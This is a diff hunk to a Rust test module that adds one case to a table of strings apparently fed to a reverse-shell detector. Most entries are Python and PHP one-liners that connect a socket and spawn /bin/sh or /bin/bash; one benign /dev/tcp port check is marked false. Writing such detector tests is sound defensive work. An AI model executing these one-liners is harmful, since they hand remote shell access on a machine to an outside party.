@@ -134,6 +134,7 @@ mod tests {
             ("import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", true),
             ("import socket,os; s.connect((h, 1)); os.dup2(s.fileno(), 0); os.system('x')", true),
             ("import socket,subprocess; s.connect((h, 1)); subprocess.call(['/bin/sh'], stdin=s)", true),
+            ("import socket,subprocess; s.connect((h, 1)); subprocess.call(['/bin/bash'], stdin=s)", true),
             ("import socket,pty; s.connect((h, 1)); pty.spawn('/bin/bash')", true),
             ("$s=fsockopen('10.0.0.1', 1); exec('sh <&3 >&3')", true),
             ("timeout 1 bash -c '</dev/tcp/db/5432' && exec app", false),
